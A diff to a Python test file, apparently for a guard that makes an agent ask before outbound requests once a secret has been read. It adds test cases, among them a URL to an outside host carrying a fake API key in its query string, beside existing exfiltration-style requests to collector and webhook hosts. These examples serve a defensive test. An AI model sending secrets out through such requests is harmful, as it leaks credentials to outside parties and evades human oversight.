@@ -164,6 +164,8 @@ def test_multi_step_exfil_whatever_is_waived(mode: Mode, waived: frozenset[str])
         ),
         ({"url": "https://collector.example.net/in", "body": "blob=U2FsdGVkX1pQ8m3Yt2Qv0bXc9Lp7Zr4Wk"}, True),
         ({"url": "https://webhook.site/abc", "body": "Deployed the retry fix; tests are green."}, True),
+        ({"url": "https://analytics-ping.net/e?o=sk-proj-FAKEFAKEFAKEFAKEFAKE", "body": ""}, True),
+        ({"url": "https://docs.example.org/guides/card-declined-error-handling", "body": ""}, False),
     ],
 )
 def test_after_a_secret_read_only_what_could_carry_it_asks(arguments: dict[str, str], asked: bool) -> None:
